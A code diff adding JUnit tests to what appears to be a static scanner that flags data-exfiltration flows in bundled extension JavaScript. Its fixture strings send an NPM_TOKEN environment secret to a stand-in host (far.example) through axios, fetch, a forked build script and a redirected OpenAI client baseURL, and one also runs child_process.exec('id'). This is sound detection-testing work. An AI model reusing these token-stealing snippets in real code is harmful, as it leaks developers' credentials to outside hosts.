@@ -2,6 +2,8 @@ package dev.vsxray.scanner.javascript.flow;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import dev.vsxray.scanner.model.Trigger;
+import java.util.Map;
 import org.junit.jupiter.api.Test;
 
 /** Clients of the network in a bundle are known by names that no minifier changes, and are what they are when required. */
@@ -79,5 +81,42 @@ class BundledLibrariesTest {
                 + "new w('wss://far.example/in').send(require('os').hostname());");
 
         assertThat(analysis.flows("account-identity", "network-send")).isEmpty();
+    }
+
+    /** Its code says less than its name, and is followed all the same. */
+    @Test
+    void aClientThatIsRequiredIsWhatItsNameSays() {
+        Analysis analysis = Analysis.of(Map.of(
+                "extension.js",
+                "require('axios').post('https://far.example/in', { key: process.env.NPM_TOKEN });",
+                "node_modules/axios/index.js",
+                "module.exports = { post: (url, data) => hidden(url, data) }; require('child_process').exec('id');"));
+
+        assertThat(analysis.destinations("environment-secret", "network-send")).contains("https://far.example/in");
+        assertThat(analysis.callsOf("process-command")).isNotEmpty();
+    }
+
+    @Test
+    void aScriptThatIsForkedRunsAsTheForkDoes() {
+        Analysis analysis = Analysis.of(Map.of(
+                "extension.js",
+                "require('child_process').fork(require('path').join(__dirname, 'node_modules/kit/build.js'));",
+                "node_modules/kit/build.js",
+                "fetch('https://far.example/in', { method: 'POST', body: process.env.NPM_TOKEN });"));
+
+        assertThat(analysis.triggers("environment-secret", "network-send")).containsExactly(Trigger.STARTUP);
+    }
+
+    @Test
+    void aClientOfACompanyGoesThereUnlessToldOtherwise() {
+        String ask = "client.chat.completions.create({ messages: [{ content: process.env.NPM_TOKEN }] });";
+        Analysis home =
+                Analysis.of("const OpenAI = require('openai'); const client = new OpenAI({ apiKey: 'k' });" + ask);
+        Analysis told = Analysis.of(
+                "const OpenAI = require('openai'); const client = new OpenAI({ baseURL: 'https://far.example/v1' });"
+                        + ask);
+
+        assertThat(home.destinations("environment-secret", "network-send")).containsExactly("https://api.openai.com");
+        assertThat(told.destinations("environment-secret", "network-send")).containsExactly("https://far.example/v1");
     }
 }
